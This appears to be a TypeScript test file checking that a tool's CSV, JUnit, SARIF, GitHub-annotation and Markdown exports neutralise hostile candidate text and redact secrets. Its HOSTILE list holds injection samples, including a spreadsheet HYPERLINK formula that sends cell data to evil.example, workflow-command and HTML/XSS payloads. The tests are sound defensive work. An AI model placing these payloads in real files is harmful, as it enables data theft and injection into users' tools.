import { spawnSync } from 'node:child_process';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import type { StoredEntry } from '../../kernel/contracts/ledger.ts';
import type { RunEvent } from '../../kernel/event.ts';
import type { JsonObject } from '../../kernel/json.ts';
import type { Random } from '../../kernel/random.ts';
import { candidateWith, decisionWith } from '../../kernel/testing/fixtures.ts';
import { readJunit } from '../../oracle/checks/tests/junit.ts';
import { syntheticRun } from '../../report/testing/synthetic-run.ts';
import { assessRun } from './assessment.ts';
import type { CandidateRow } from './candidate-row.ts';
import { csvLines } from './csv.ts';
import { annotationLines } from './github.ts';
import { jsonLines } from './json-lines.ts';
import { junitLines } from './junit.ts';
import { markdownReport } from './markdown.ts';
import type { RunExport } from './run-export.ts';
import { foldExport } from './run-export.ts';
import { runSarif } from './sarif.ts';

/** Each carries a word that no text of ours has. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"evil")',
  '+evil',
  '-evil',
  '@evil please look',
  '\t=evil',
  "'evil",
  'evil "quoted", with, commas\r\nand lines',
  '::error file=evil.ts::evil',
  'evil\n::set-output name=evil::1\n##[error]evil',
  '![evil](https://evil.example/x.png) [evil](javascript:evil)',
  '<img src=x onerror=evil()> <!-- evil ]]> </failure></testcase>',
  '` evil `` evil ``` evil',
  '``````',
  '\\` evil \\| evil',
  '| evil | evil |',
  '# evil #12 GH-12 www.evil.example evil@evil.example',
  '\u001b[2J\u0000\u202eevil\ufffe\ud800',
  'evil'.repeat(2000),
];

const hostileText = (random: Random): string =>
  Array.from({ length: 3 }, () => random.pick(HOSTILE)).join(' ');

const PROPOSALS = 400;

function entriesOf(hostile: boolean, proposals = PROPOSALS): readonly StoredEntry[] {
  const made = { seed: 'm', proposals, skill: 0.2, strategy: 'evolve' };
  return [...syntheticRun({ ...made, hostile: hostile ? hostileText : null })];
}

function exportOf(entries: readonly StoredEntry[], fields: Partial<RunExport> = {}): RunExport {
  const about = { control: null, change: '', taskFile: 'some folder/fulcrum.yaml', version: '1.2.3' };
  return { ...foldExport(entries, []), ...about, ...fields };
}

const hostileRun = exportOf(entriesOf(true));

const rowsOf = (run: RunExport): readonly CandidateRow[] =>
  [...jsonLines(run)].map((line) => JSON.parse(line) as CandidateRow);

describe('candidates as lines', () => {
  it('are the baseline and every proposal, with what became of each', () => {
    const entries = entriesOf(false);
    const rows = rowsOf(exportOf(entries));
    expect(rows.map(({ number }) => number)).toEqual(
      Array.from({ length: PROPOSALS + 1 }, (_, index) => index),
    );
    const refused = entries.filter(({ event }) => event.type === 'proposal-refused').length;
    const kept = entries.filter(
      ({ event }) => event.type === 'candidate-decided' && event.decision.kind === 'keep',
    ).length;
    expect(refused).toBeGreaterThan(0);
    expect(kept).toBeGreaterThan(0);
    expect(rows.filter(({ outcome }) => outcome === 'refused')).toHaveLength(refused);
    expect(rows.filter(({ outcome }) => outcome === 'kept')).toHaveLength(kept);
    expect(rows[0]).toMatchObject({ outcome: 'baseline', score: 5.3701, evaluation: 0, parents: [] });
    expect(rows[0]!.heldOut).toMatchObject([{ slice: 'weibull', value: 5.3701 + 0.04 }]);
    expect(rows.at(-1)!.evaluation).toBe(PROPOSALS - refused);
  });

  it('count a decision that was taken again as it came out', () => {
    const entries = entriesOf(false);
    const kept = entries.find(
      ({ event }) => event.type === 'candidate-decided' && event.decision.kind === 'keep',
    )!;
    const { number } = kept.event as Extract<RunEvent, { type: 'candidate-decided' }>;
    const again: readonly RunEvent[] = [
      { type: 'candidate-reopened', number, candidate: candidateWith({ number }), previous: 'keep' },
      { type: 'candidate-decided', number, decision: decisionWith('inconclusive') },
    ];
    const rows = rowsOf(exportOf([...entries, ...again.map((event) => ({ ...kept, event }))]));
    expect(rows).toHaveLength(PROPOSALS + 1);
    expect(rows.find((row) => row.number === number)!.outcome).toBe('inconclusive');
  });

  it('hold no secret, no line end and nothing that acts', () => {
    const key = `sk-ant-${'a'.repeat(40)}`;
    const [first, ...rest] = entriesOf(true);
    const summary = `use ${key} and word-of-the-environment`;
    const events = rest.map((entry) => {
      if (entry.event.type !== 'candidate-proposed') return entry;
      const { candidate } = entry.event;
      const provenance = { ...candidate.provenance, summary };
      return { ...entry, event: { ...entry.event, candidate: { ...candidate, provenance } } };
    });
    const { rows } = foldExport([first!, ...events], ['word-of-the-environment']);
    const text = JSON.stringify(rows);
    expect(text).not.toContain(key);
    expect(text).not.toContain('word-of-the-environment');
    expect(rows.every(({ summary: line, reason }) => !/[\p{Cc}\u202e]/u.test(line + reason))).toBe(true);
  });
});

describe('a secret that a cut goes through', () => {
  const key = `sk-ant-${'a'.repeat(40)}`;
  const known = 'word-of-the-environment';

  /** What the proposers and the rule of a run say is replaced by this text. */
  const saying = (text: string): readonly StoredEntry[] =>
    entriesOf(false, 60).map((entry) => {
      const { event } = entry;
      switch (event.type) {
        case 'candidate-proposed': {
          const { candidate } = event;
          const provenance = { ...candidate.provenance, summary: text, operator: text, proposer: text };
          return { ...entry, event: { ...event, candidate: { ...candidate, provenance } } };
        }
        case 'proposal-refused':
          return { ...entry, event: { ...event, detail: text } };
        case 'candidate-decided':
          return { ...entry, event: { ...event, decision: { ...event.decision, reason: text } } };
        default:
          return entry;
      }
    });

  // Texts are cut to 60, 240, 300 or 400 characters.
  it.each([54, 234, 294, 394])('leaves nothing of itself, %i characters before it', (before) => {
    for (const [secret, part] of [
      [key, 'sk-a'],
      [known, 'word'],
    ] as const) {
      const entries = saying(`${'x'.repeat(before - 1)} ${secret} and on${' and on'.repeat(100)}`);
      const run = exportOf(entries, foldExport(entries, [known]));
      for (const text of [
        markdownReport(run),
        [...junitLines(run)].join(''),
        [...csvLines(run)].join(''),
        [...jsonLines(run)].join(''),
        annotationLines(run).join('\n'),
        JSON.stringify(runSarif(run)),
      ])
        expect(text).not.toContain(part);
    }
  });

  it('nor does a known one in what is said of the result', () => {
    const entries = entriesOf(false, 60);
    const end = entries.at(-1)!;
    const event: RunEvent = { type: 'run-finished', reason: 'target-reached', detail: `it said ${known}` };
    const ended = [...entries.filter((entry) => entry.event.type !== 'run-finished'), { ...end, event }];
    expect(JSON.stringify(assessRun(exportOf(ended, foldExport(ended, []))))).toContain(known);
    expect(JSON.stringify(assessRun(exportOf(ended, foldExport(ended, [known]))))).not.toContain(known);
  });
});

describe('CSV', () => {
  /** Python's own reader: another author's understanding of RFC 4180. */
  function readByPython(text: string): readonly (readonly string[])[] {
    const program =
      'import csv,io,json,sys\nt=sys.stdin.buffer.read().decode()\nprint(json.dumps(list(csv.reader(io.StringIO(t,newline="")))))';
    const { stdout, status, stderr } = spawnSync('python3', ['-c', program], {
      input: text,
      encoding: 'utf8',
      maxBuffer: 1 << 28,
    });
    expect([status, stderr]).toEqual([0, '']);
    return JSON.parse(stdout) as string[][];
  }

  it('comes back as it was written, and no cell of text begins a formula', () => {
    const [header, ...lines] = readByPython([...csvLines(hostileRun)].join(''));
    const rows = rowsOf(hostileRun);
    expect(lines).toHaveLength(rows.length);
    const column = (name: string): number => {
      expect(header).toContain(name);
      return header!.indexOf(name);
    };
    const numeric = new Set(
      ['number', 'score', 'size', 'evaluation', 'money', 'held-out weibull'].map(column),
    );
    const original = (text: string): string => text.replace(/^'/, '');
    for (const [index, cells] of lines.entries()) {
      const row = rows[index]!;
      expect(cells).toHaveLength(header!.length);
      expect(original(cells[column('summary')]!)).toBe(row.summary);
      expect(original(cells[column('reason')]!)).toBe(row.reason);
      expect(cells[column('score')]).toBe(row.score === null ? '' : String(row.score));
      expect(cells[column('held-out weibull')]).toBe(String(row.heldOut[0]?.value ?? ''));
      for (const [place, cell] of cells.entries())
        if (!numeric.has(place)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    expect(rows.some(({ summary }) => summary.startsWith('='))).toBe(true);
    expect(rows.some(({ summary }) => summary.startsWith("'"))).toBe(true);
  });
});

describe('JUnit', () => {
  const xml = [...junitLines(hostileRun)].join('');

  it('is what a reader of JUnit counts, and fails where the claim falls', () => {
    expect(readJunit(new TextEncoder().encode(xml), '')).not.toHaveProperty('unreadable');
    const failures = (text: string): readonly string[] =>
      Array.from(text.matchAll(/<failure type="([^"]*)"/g), ([, type]) => type!);
    // The labels of this synthetic run are not those of its decisions.
    expect(failures(xml)).toEqual(['guarantee-condition']);
    expect(xml).toMatch(/<testsuites name="online-bin-packing" tests="\d+" failures="1"/);
    const demanding = entriesOf(false).map((entry) => {
      if (entry.event.type !== 'run-started') return entry;
      const { task } = entry.event;
      const objectives = [{ ...task.objectives[0]!, required: 1000 }];
      return { ...entry, event: { ...entry.event, task: { ...task, objectives } } };
    });
    const failing = [...junitLines(exportOf(demanding))].join('');
    expect(failures(failing)).toEqual(['requirement-met', 'guarantee-condition']);
    expect(failing).toMatch(/message="excess gained [\d.]+%; the task demands 1,000/);
  });

  it('is well-formed whatever candidates wrote, and its counts are those of its cases', () => {
    const counted = { testsuite: [] as { [name: string]: string }[], cases: 0, skipped: 0 };
    const parser = new SaxesParser();
    parser.on('error', (error) => {
      throw error;
    });
    const allowed = ['testsuites', 'testsuite', 'testcase', 'failure', 'skipped'];
    parser.on('opentag', ({ name, attributes }) => {
      expect(allowed).toContain(name);
      if (name === 'testsuite') counted.testsuite.push(attributes);
      if (name === 'testcase') {
        expect(Object.keys(attributes).toSorted()).toEqual(['classname', 'name', 'time']);
        counted.cases += 1;
      }
      if (name === 'skipped') counted.skipped += 1;
    });
    parser.write(xml).close();
    const sum = (name: string): number =>
      counted.testsuite.reduce((total, suite) => total + Number(suite[name]), 0);
    expect(counted.testsuite.map(({ name }) => name)).toEqual(['run', 'winner', 'candidates']);
    expect(sum('tests')).toBe(counted.cases);
    expect(sum('skipped')).toBe(counted.skipped);
    expect(counted.cases).toBeGreaterThan(PROPOSALS);
  });
});

it('SARIF has what its standard asks for (OASIS, SARIF 2.1.0, sections 3.13, 3.27 and 3.28)', () => {
  const sarif = runSarif(hostileRun) as {
    version: string;
    runs: readonly {
      tool: { driver: { name: string; rules: readonly { id: string }[] } };
      results: readonly (JsonObject & { level: string; ruleId: string; message: { text: string } })[];
    }[];
  };
  expect(sarif.version).toBe('2.1.0');
  const [run] = sarif.runs;
  const rules = run!.tool.driver.rules.map(({ id }) => id);
  expect(new Set(rules).size).toBe(rules.length);
  expect(run!.results.length).toBeGreaterThan(0);
  for (const result of run!.results) {
    expect(['note', 'warning', 'error']).toContain(result.level);
    expect(rules).toContain(result.ruleId);
    expect(result.message.text).not.toBe('');
    expect(result['locations']).toEqual([
      // RFC 3986 knows no space.
      {
        physicalLocation: {
          artifactLocation: { uri: 'some%20folder/fulcrum.yaml' },
          region: { startLine: 1 },
        },
      },
    ]);
  }
  expect(run!.results.map(({ ruleId }) => ruleId)).toContain('protected-files');
});

describe('GitHub', () => {
  it('gets one workflow command a line, whatever is in it', () => {
    const lines = annotationLines({
      ...hostileRun,
      taskFile: 'a,b:c%\n::error::evil/fulcrum.yaml',
    });
    expect(lines.length).toBeGreaterThan(2);
    for (const line of lines) {
      expect(line).toMatch(/^::(?:notice|warning|error) file=[^,:\n]*,line=1,title=[^,:\n]*::[^\r\n]*$/);
      const file = /file=([^,]*),/.exec(line)![1]!;
      // Decoded as the runner does it: the percent sign last.
      const decoded = file
        .replaceAll('%3A', ':')
        .replaceAll('%2C', ',')
        .replaceAll('%0A', '\n')
        .replaceAll('%25', '%');
      expect(decoded).toBe('a,b:c%\n::error::evil/fulcrum.yaml');
    }
  });
});

describe('Markdown', () => {
  /** What is left of a text when code is taken out as CommonMark 0.31, sections 4.5 and 6.1, read it. */
  function withoutCode(markdown: string): string {
    const blocks = markdown.replaceAll(/^(`{3,})[^`\n]*\n[\s\S]*?\n\1`*[ \t]*$/gm, '');
    return blocks.replaceAll(/(?<![`\\])(`+)(?!`)([\s\S]*?)(?<!`)\1(?!`)/g, '');
  }

  it('shows what candidates wrote in code alone, where nothing acts', () => {
    const change = `--- a/x\n+++ b/x\n@@ -1 +1 @@\n-evil\n+${'`'.repeat(5)} </details> evil @evil\n`;
    const markdown = markdownReport({ ...hostileRun, change });
    expect(markdown).toContain('evil');
    expect(withoutCode(markdown)).not.toContain('evil');
    expect(withoutCode(markdown)).toContain('5.370%');
    expect(markdown.length).toBeLessThan(65_536);
  });

  it('cuts a long change rather than the rest', () => {
    const markdown = markdownReport({ ...hostileRun, change: `+${'`evil'.repeat(100_000)}\n` });
    expect(markdown.length).toBeLessThan(65_536);
    expect(withoutCode(markdown)).not.toContain('evil');
    expect(markdown).toMatch(/cut from 500002 characters/);
    expect(markdown).toContain('`fulcrum verify` checks it');
  });
});

it('a run that judged nothing says so in every form', () => {
  const run = exportOf(entriesOf(false).slice(0, 2));
  expect([...csvLines(run)]).toHaveLength(1);
  expect([...jsonLines(run)]).toEqual([]);
  expect([...junitLines(run)].join('')).toMatch(/<failure type="baseline-judged"/);
  expect(annotationLines(run).at(-1)).toMatch(/^::error /);
  expect(markdownReport(run)).toContain('before its baseline was judged');
});
